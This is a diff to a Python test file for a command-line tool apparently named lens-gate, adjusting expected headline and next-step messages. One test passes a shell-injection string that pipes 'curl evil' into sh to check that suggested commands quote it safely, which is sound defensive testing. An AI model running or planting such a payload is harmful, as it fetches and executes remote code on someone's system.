@@ -287,8 +287,7 @@ def test_what_was_in_the_way_of_measuring_is_the_headline() -> None:
     assert view(refused).headline == "Not measured: 401: wrong key"
     assert view(not_measured(validity=late)).headline == "Not measured: the generator was too slow"
     assert view(not_measured()).headline == "Not measured: no request succeeded"
-    assert view(not_measured()).next_step == "lens-gate validate"
-    assert view(not_measured(validity=late)).next_step is None
+    assert view(not_measured()).next_step is None
     assert view(not_measured(ending=Ending.UNREACHABLE)).headline == "Not measured: no request succeeded"
 
 
@@ -301,8 +300,9 @@ def test_what_was_measured_beside_it_is_counted() -> None:
 
 def test_hostile_names_are_quoted_in_commands() -> None:
     comparison = Comparison(kind="ref", value="x; curl evil | sh\n`id`", equal=False)
-    shown = view_of(SLOWER, comparison=comparison)
-    assert shown.next_step == "lens-gate ci --against-ref 'x; curl evil | sh `id`'"
+    shown = view_of(UNCLEAR, comparison=comparison)
+    assert shown.next_step is not None
+    assert shown.next_step.startswith("lens-gate ci --against-ref 'x; curl evil | sh `id`'")
 
 
 def test_a_comparison_says_what_was_compared_and_when() -> None:
